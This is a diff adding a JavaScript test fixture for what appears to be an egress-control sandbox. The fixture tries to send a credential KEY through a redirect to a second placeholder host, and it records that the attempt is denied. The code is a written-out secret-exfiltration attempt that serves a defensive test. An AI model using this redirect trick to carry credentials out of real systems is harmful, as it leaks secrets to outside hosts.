@@ -1,0 +1,15 @@
+export const attempt = {
+  tries: "to have a value that it was given itself sent on to another host by a redirect",
+  refusedBecause: "each redirect is a request of its own and is searched",
+  ends: { code: "egress_denied", message: "it would be sent the credential KEY" },
+  seen: ["GET /to"],
+  allowedHosts: ["http://{witness}", "http://{other}"],
+  keyHosts: ["http://{witness}"],
+  keyIsExposed: true,
+};
+
+export default async ({ witness, other }, { credentials }) => {
+  const url = encodeURIComponent(`http://${other}/sent-on`);
+  await fetch(`http://${witness}/to?url=${url}`, { headers: { "x-key": credentials.KEY } });
+  return "got through";
+};
